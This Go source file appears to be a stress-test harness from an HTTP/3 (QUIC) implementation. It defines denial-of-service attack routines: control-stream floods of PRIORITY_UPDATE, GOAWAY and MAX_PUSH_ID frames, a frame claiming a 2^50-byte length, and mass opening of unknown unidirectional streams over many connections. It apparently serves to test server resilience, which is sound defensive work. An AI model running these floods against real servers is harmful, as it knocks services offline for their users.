package attack

import (
	"github.com/godwit-quic/godwit/internal/h3"
	"github.com/godwit-quic/godwit/internal/wire"
)

var controlRows = []Row{
	{Name: "priority-updates", Class: "MAX_PUSH_ID/SETTINGS churn", run: controlFlood(func(i int) []byte {
		return frame(h3.FramePriorityUpdate, append(wire.AppendVarint(nil, uint64(i%1000)*4), "u=1"...))
	}), Does: "changes the priority of requests that there are not"},
	{Name: "goaways", Class: "MAX_PUSH_ID/SETTINGS churn", run: controlFlood(func(i int) []byte {
		return frame(h3.FrameGoAway, wire.AppendVarint(nil, 1<<30-uint64(i)))
	}), Does: "says GOAWAY again and again"},
	{Name: "push-ids", Class: "MAX_PUSH_ID/SETTINGS churn", run: controlFlood(func(i int) []byte {
		return frame(h3.FrameMaxPushID, wire.AppendVarint(nil, uint64(i)))
	}), Does: "raises MAX_PUSH_ID again and again"},
	{Name: "unknown-control-frames", Class: "MAX_PUSH_ID/SETTINGS churn", run: controlFlood(func(int) []byte {
		return frame(0x21, nil)
	}), Does: "sends frames of a reserved type on the control stream"},
	{Name: "huge-frame", Class: "Length-driven allocation", run: hugeFrame,
		Does: "sends a frame of an unknown type, 2^50 bytes long, on the control stream"},
	{Name: "unknown-uni-streams", Class: "Rapid-reset/stream churn", run: unknownStreams,
		Does: "opens unidirectional streams of a type that nobody knows"},
}

func controlFlood(next func(i int) []byte) func(a *attacker) error {
	return func(a *attacker) error {
		var conns []*conn
		var s *stream
		a.begun()
		i := 0
		n := a.repeat(20_000, func(int) bool {
			if len(conns) == 0 || !conns[len(conns)-1].alive() {
				c, err := a.dial(dialing{})
				if err != nil || len(conns) == 500 {
					return len(conns) > 0 && len(conns) < 500
				}
				c.window = 64
				conns, s, i = append(conns, c), c.control(), 0
			}
			var b []byte
			for len(b) < maxPayload-streamHeader-16 {
				b = append(b, next(i)...)
				i++
			}
			if s.room(len(b)) {
				s.write(b, false)
			}
			return true
		})
		a.notef("%d packets; %s", n, ends(conns))
		if len(conns) == 0 {
			return errNoHandshake
		}
		return nil
	}
}

func hugeFrame(a *attacker) error {
	c, err := a.dial(dialing{})
	if err != nil {
		return err
	}
	c.window = 256
	s := c.control()
	s.write(h3.AppendFrameHeader(nil, 0x21, 1<<50), false)
	b := make([]byte, maxPayload-streamHeader)
	a.pour(50_000, s, b)
	return nil
}

func unknownStreams(a *attacker) error {
	var conns []*conn
	a.begun()
	n := 0
	a.repeat(20_000, func(int) bool {
		if len(conns) == 0 || !conns[len(conns)-1].alive() {
			c, err := a.dial(dialing{})
			if err != nil || len(conns) == 500 {
				return len(conns) > 0 && len(conns) < 500
			}
			conns = append(conns, c)
		}
		c := conns[len(conns)-1]
		b := c.payload[:0]
		for len(b) < maxPayload-streamHeader-8 {
			s, ok := c.open(true)
			if !ok {
				break
			}
			n++
			b = s.append(b, []byte{0x21, 'x'}, true)
		}
		c.payload = b
		if len(b) > 0 {
			c.send(b)
		}
		return true
	})
	a.notef("%d streams; %s", n, ends(conns))
	if len(conns) == 0 {
		return errNoHandshake
	}
	return nil
}
